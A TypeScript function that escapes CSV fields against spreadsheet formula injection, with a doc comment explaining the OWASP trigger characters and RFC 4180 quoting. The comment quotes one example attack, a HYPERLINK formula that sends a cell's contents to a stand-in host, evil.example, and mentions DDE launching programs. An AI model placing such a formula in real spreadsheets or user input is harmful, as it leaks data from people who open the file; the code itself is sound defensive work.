/**
 * First characters that make a spreadsheet read a cell as a formula (or, for tab and carriage
 * return, that some spreadsheets strip before they look for one). OWASP "CSV Injection" lists
 * exactly these.
 */
const FORMULA_TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);

/** Characters that force a field into quotes (RFC 4180, section 2.6). */
const NEEDS_QUOTES = /[",\r\n]/;

/**
 * Writes one CSV field: safe to open in a spreadsheet, quoted as RFC 4180 asks.
 *
 * Formula injection: comment text, names and organisations are written by other people. A
 * comment reading `=HYPERLINK("https://evil.example/?"&A1, "Klicka")` or `@SUM(…)` would run as
 * a formula in Excel or LibreOffice when the report is opened, and could send other cells'
 * contents away or, with DDE, start programs. A field that starts with one of `= + - @`, a tab
 * or a carriage return therefore gets a leading apostrophe, which spreadsheets read as "this is
 * text". The price is a visible apostrophe before such cells, including a comment that starts
 * with "- " as a list does; every field of the report is text, so no real number is harmed.
 *
 * Line breaks inside a field become "\n", the line break spreadsheets use inside a cell (Excel's
 * Alt+Enter), so a comment typed on Windows does not show stray carriage returns. The guard
 * looks at the field before that, so a field that started with a carriage return is guarded too.
 */
export function csvField(value: string): string {
  const first = value.charAt(0);
  const guarded = FORMULA_TRIGGERS.has(first) ? `'${value}` : value;
  const normalised = guarded.replace(/\r\n?/g, '\n');
  return NEEDS_QUOTES.test(normalised) ? `"${normalised.replaceAll('"', '""')}"` : normalised;
}
